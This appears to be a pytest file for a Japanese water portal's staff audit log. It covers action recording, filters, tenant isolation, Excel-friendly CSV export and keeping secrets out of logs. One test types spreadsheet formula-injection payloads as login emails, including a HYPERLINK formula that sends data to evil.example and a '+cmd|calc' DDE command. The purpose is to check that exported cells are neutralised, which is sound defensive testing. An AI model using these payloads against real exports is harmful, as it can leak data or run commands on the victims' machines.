"""操作ログ: every staff action is recorded; filters; CSV for Excel (UTF-8 with BOM)."""
from __future__ import annotations

import csv
import datetime as dt
import io
import logging
import re
from zoneinfo import ZoneInfo

import pytest
import time_machine
from sqlalchemy import select

from tests.admin.conftest import STAFF_PASSWORD, login_staff
from tests.admin.test_settings import settings_post
from waterportal.accounts.models import Member
from waterportal.core.spreadsheet import neutralise
from waterportal.extensions import db
from waterportal.mail.models import OutboxMessage
from waterportal.tenancy.context import tenant_context

TOKYO = ZoneInfo("Asia/Tokyo")


@pytest.fixture
def busy_day(staff_client, client_for):
    """Two days of console work in Kanazawa; the clock stays at the second morning."""
    with time_machine.travel(dt.datetime(2026, 11, 17, 9, 0, tzinfo=TOKYO), tick=False) as clock:
        admin = staff_client("kanazawa")
        login_staff(client_for("kanazawa"), admin.email, "Wrong-Pass-2026!")
        admin.submit("/admin/notices/new", {"title": "お知らせ「一」", "body": "本文", "published_at": "2026-11-17T09:00"})
        clock.move_to(dt.datetime(2026, 11, 18, 9, 0, tzinfo=TOKYO))
        admin = staff_client("kanazawa", email="kacho@kanazawa.example.jp")
        settings_post(admin, "hours", {"service_hours.open": "06:00"})
        yield admin


def test_every_kind_of_staff_action_is_in_the_log(staff_client, client_for, audit_entries, kanazawa):
    with time_machine.travel(dt.datetime(2026, 11, 18, 9, 0, tzinfo=TOKYO), tick=False):
        admin = staff_client("kanazawa")
        login_staff(client_for("kanazawa"), admin.email, "Wrong-Pass-2026!")
        admin.submit("/admin/staff/new", {"email": "new@kanazawa.example.jp", "name": "新人", "role": "operator"})
        admin.submit("/admin/notices/new", {"title": "t", "body": "b", "published_at": "2026-11-18T09:00"})
        notice_id = re.search(r"/admin/notices/(\d+)/edit", admin.get("/admin/notices").get_data(as_text=True)).group(1)
        admin.submit(f"/admin/notices/{notice_id}/edit", {"title": "t2", "body": "b", "published_at": "2026-11-18T09:00"})
        admin.submit(f"/admin/notices/{notice_id}/delete", {})
        settings_post(admin, "hours", {"service_hours.open": "06:00"})
        admin.submit("/admin/settings/history/0/rollback", {})
        new_id = re.search(r'/admin/staff/(\d+)/disable', admin.get("/admin/staff").get_data(as_text=True)).group(1)
        admin.submit(f"/admin/staff/{new_id}/disable", {}, form_page="/admin/staff")
        admin.submit("/admin/logout", {}, form_page="/admin/")
    entries = [e for e in audit_entries(kanazawa) if e[1] != "tenant.apply"]  # the city's onboarding
    assert [e[1] for e in entries] == [
        "staff.login", "staff.login_failed", "staff.create", "notice.create", "notice.update", "notice.delete",
        "settings.change", "settings.rollback", "staff.disable", "staff.logout",
    ]
    assert {e[0] for e in entries} == {f"staff:{admin.staff_id}"}
    assert {e[4] for e in entries} == {"127.0.0.1"}


def test_the_log_is_filtered_by_actor_action_and_dates(busy_day):
    admin = busy_day
    page = admin.get("/admin/audit").get_data(as_text=True)
    assert "設定の変更" in page and "お知らせの作成" in page and "ログイン失敗" in page
    page = admin.get("/admin/audit?action=settings.change").get_data(as_text=True)
    assert "2026-11-18 09:00" in page and "お知らせの作成" not in page.split("<table")[1]
    page = admin.get("/admin/audit?actor=kacho").get_data(as_text=True)
    table = page.split("<table")[1]
    assert "kacho@kanazawa.example.jp" in table and "admin-kanazawa@example.jp" not in table
    table = admin.get("/admin/audit?date_from=2026-11-17&date_to=2026-11-17").get_data(as_text=True).split("<table")[1]
    assert "2026-11-17 09:00" in table and "2026-11-18" not in table
    page = admin.get("/admin/audit?date_from=2026-11-18&date_to=2026-11-01").get_data(as_text=True)
    assert re.search(r'id="date_to-error">終了日は開始日以降の日付を入力してください。', page)
    page = admin.get("/admin/audit?date_from=yesterday").get_data(as_text=True)
    assert re.search(r'id="date_from-error">日付は 2026-04-01 の形式で入力してください。', page)


def test_the_csv_opens_in_excel_with_japanese_intact(busy_day):
    response = busy_day.get("/admin/audit.csv?action=notice.create")
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == 'attachment; filename="audit-kanazawa-2026-11-18.csv"'
    raw = response.data
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == ["日時", "操作者", "職員メールアドレス", "操作", "操作の説明", "対象", "詳細", "接続元"]
    assert len(rows) == 2
    assert rows[1][0] == "2026-11-17 09:00" and rows[1][2] == "admin-kanazawa@example.jp"
    assert rows[1][3:5] == ["notice.create", "お知らせの作成"] and '"title": "お知らせ「一」"' in rows[1][6]


def test_the_log_shows_only_this_city(busy_day, staff_client):
    nayoro_admin = staff_client("nayoro")
    table = nayoro_admin.get("/admin/audit").get_data(as_text=True)
    assert "kanazawa" not in table and "設定の変更" not in table.split("<table")[1]


def test_every_recorded_action_has_a_japanese_name():
    """Each action any module records (``audit.record(actor, "x.y", ...)``) is named in Japanese
    in the log's list and filter; a new action without a name fails here."""
    from pathlib import Path

    import waterportal
    from waterportal.admin.audit_views import ACTIONS

    package = Path(waterportal.__file__).parent
    call = re.compile(r"audit\.record\(\s*[^,()]+(?:\([^()]*\))?,\s*\"([a-z_]+(?:\.[a-z_]+)?)\"")
    recorded = {m.group(1) for path in package.rglob("*.py") for m in call.finditer(path.read_text(encoding="utf-8"))}
    # provisioning/services.py passes its actions through one helper; settings_services builds them.
    recorded |= {"tenant.add_host", "tenant.disable", "tenant.enable", "settings.change", "settings.rollback"}
    assert {"member.register", "staff.login", "notice.create", "inquiry.submitted", "login"} <= recorded
    assert recorded - set(ACTIONS) == set()


def test_a_citizens_own_action_shows_its_japanese_name(app, staff_client, kanazawa):
    from waterportal.audit import services as audit
    from waterportal.extensions import db
    from waterportal.tenancy.context import tenant_context

    with app.app_context(), tenant_context(kanazawa):
        audit.record("member:7", "member.register", target="contract:9", login_mode="login_id")
        db.session.commit()
    page = staff_client("kanazawa").get("/admin/audit").get_data(as_text=True)
    row = re.search(r"<tr>(?:(?!</tr>).)*member:7(?:(?!</tr>).)*</tr>", page, re.S).group(0)
    assert "会員登録" in row and "member.register" in row
    assert '<option value="member.register">会員登録(member.register)</option>' in page


def test_formulas_typed_by_anyone_are_text_in_the_csv(staff_client, client_for):
    """An attacker types a formula as the email at the console login; the failed login is
    in the log, and the exported cell must not run as a formula in the admin's spreadsheet."""
    attacks = ['=HYPERLINK("http://evil.example/?"&A1)@evil.example', "+cmd|calc@evil.example", "-2+3@evil.example"]
    for attack in attacks:  # what the login form accepts as an email, formula first
        login_staff(client_for("kanazawa"), attack, "Wrong-Pass-2026!")
    admin = staff_client("kanazawa")
    raw = admin.get("/admin/audit.csv?action=staff.login_failed").data
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    targets = {row[5] for row in rows[1:]}
    assert {"'" + attack.lower() for attack in attacks} <= targets
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+81 90", "'+81 90"), ("-1", "'-1"), ("@cmd", "'@cmd"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("名寄 太郎", "名寄 太郎"), ("a=1", "a=1"), ("", ""), (None, ""), (42, "42"),
])
def test_a_cell_that_would_be_a_formula_gets_an_apostrophe(value, cell):
    assert neutralise(value) == cell


def test_auth_events_are_audited_without_secrets(app, client_for, make_member, make_staff, audit_entries, nayoro, caplog):
    """Logins (right and wrong), logout, password change and reset of members and staff are
    in the city's log; no typed password, new password, hash, reset token or session key is,
    neither in the audit rows nor in the application log."""
    caplog.set_level(logging.DEBUG)
    member_password, wrong, new = "Passw0rd!x", "Wr0ng-Secret!9", "Suido#2026ab"
    make_member(nayoro, email="taro@example.jp", password=member_password)
    make_staff(nayoro, email="kanri@nayoro.example.jp")

    citizen = client_for("nayoro")
    citizen.submit("/login", {"identifier": "taro@example.jp", "password": wrong})
    assert citizen.submit("/login", {"identifier": "taro@example.jp", "password": member_password}).status_code == 302
    session_key = citizen.get_cookie("session", domain="nayoro.localhost").value
    changed = citizen.submit("/mypage/profile/password",
                             {"current_password": member_password, "password": new, "password_confirm": new})
    assert changed.status_code == 302
    citizen.submit("/logout", {}, form_page="/mypage")
    helper = client_for("nayoro")
    helper.submit("/password/forgot", {"email": "taro@example.jp"})
    helper.submit("/password/forgot", {"email": "nobody@example.jp"})
    with app.app_context(), tenant_context(nayoro):
        body = db.session.scalars(select(OutboxMessage.body).where(
            OutboxMessage.kind == "password_reset", OutboxMessage.to_address == "taro@example.jp")).one()
        password_hash = db.session.scalars(select(Member.password_hash)).one()
    token = re.search(r"/password/reset/(\S+)", body).group(1)
    newest = "Ny0ro-Reset!42"
    assert helper.submit(f"/password/reset/{token}", {"password": newest, "password_confirm": newest}).status_code == 302

    staff = client_for("nayoro")
    login_staff(staff, "kanri@nayoro.example.jp", wrong)
    assert login_staff(staff, "kanri@nayoro.example.jp").status_code == 302
    login_staff(client_for("nayoro"), "nobody@nayoro.example.jp", wrong)

    entries = audit_entries(nayoro)
    actions = [e[1] for e in entries]
    for action in ("login", "password.changed", "logout", "password.reset_requested", "staff.login_failed", "staff.login"):
        assert action in actions, actions
    recorded = repr(entries) + caplog.text
    for secret in (member_password, wrong, new, newest, STAFF_PASSWORD, token, session_key, password_hash):
        assert secret not in recorded, secret[:12]
